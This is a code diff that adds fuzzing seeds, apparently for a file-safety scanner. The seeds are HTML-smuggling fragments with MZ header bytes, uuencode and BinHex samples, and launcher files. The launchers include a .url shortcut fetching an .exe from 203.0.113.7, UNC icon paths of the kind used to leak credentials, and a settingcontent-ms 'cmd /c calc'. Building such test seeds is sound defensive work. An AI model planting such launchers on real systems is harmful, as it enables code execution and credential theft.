@@ -106,6 +106,27 @@ pages = {
     "escaped.svg": b'<svg><image href="DATA:image/png;charset=x;base64,'
     b'iVBORw0KGgo%0AAAAADUlIRFIAAAAB%3D"/></svg>',
 }
+smuggle = {
+    "atob.html": b"\x00<html><script>var a = 'TVqQAAMAAAAEAAAA//8AALgAAAAA'; a += 'QAAAAAAAAAAAAAAAAAAAAAAAAAAA';"
+    b" var s = atob(a + \"AAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhp\"); var u = new Uint8Array([77,90,144,0,3,0,0,0,4]);"
+    b" String.fromCharCode.apply(null, [72,101,108,108,111,32,119,111]);</script>"
+    b"<svg onload=\"x()\"><script><![CDATA[ f() ]]></script></svg></html>",
+    "hex.js": b"\x01var h = '" + b"4d5a" * 40 + b"'; /* c */ // d\nvar t = `x${y}`;",
+}
+launchers = {
+    "a.url": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,0\r\n[InternetShortcut]\r\n"
+    b"URL=file://203.0.113.7/s/a.exe\r\nIconFile=\\\\h\\s\\i.ico\r\n",
+    "a.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\h\\s\\i.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
+    "a.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c x\nIcon=smb://h/i.png\n",
+    "a.library-ms": b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
+    b"<url>\\\\h@SSL\\DavWWWRoot</url></libraryDescription>",
+    "a.settingcontent-ms": b"<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>",
+}
+uu = {
+    "uu.txt": b"hi\nbegin 644 a.txt\n#0V%T\n`\nend\nbegin-base64 644 b\naGVsbG8=\n====\n",
+    "binhex.txt": b"(This file must be converted with BinHex 4.0)\n\n"
+    b":$f*TEQKPH#jdCA0d,R0TG!\"6594%8dP8)3#3\"!&m!*!%EfjdCA0d!*!%+3!!!!\"\n3!!:\n",
+}
 targets = {
     "zip_structure": zips,
     "unpack_zip": zips,
@@ -126,6 +147,9 @@ targets = {
     "scan_reader": {k: b"\x10\x20\x40" + v for k, v in list(zips.items())[:4]},
     "names_policy": {"names": b"invoice_\xe2\x80\xaegpj.exe\0[types]\nexecutable = \"block\"\n"},
     "archive_structured": {"a": bytes(range(64)), "b": bytes(range(255, 0, -3))},
+    "unpack_smuggle": smuggle,
+    "launchers": launchers,
+    "uudecode": uu,
 }
 for target, files in targets.items():
     d = os.path.join(HERE, "seeds", target)
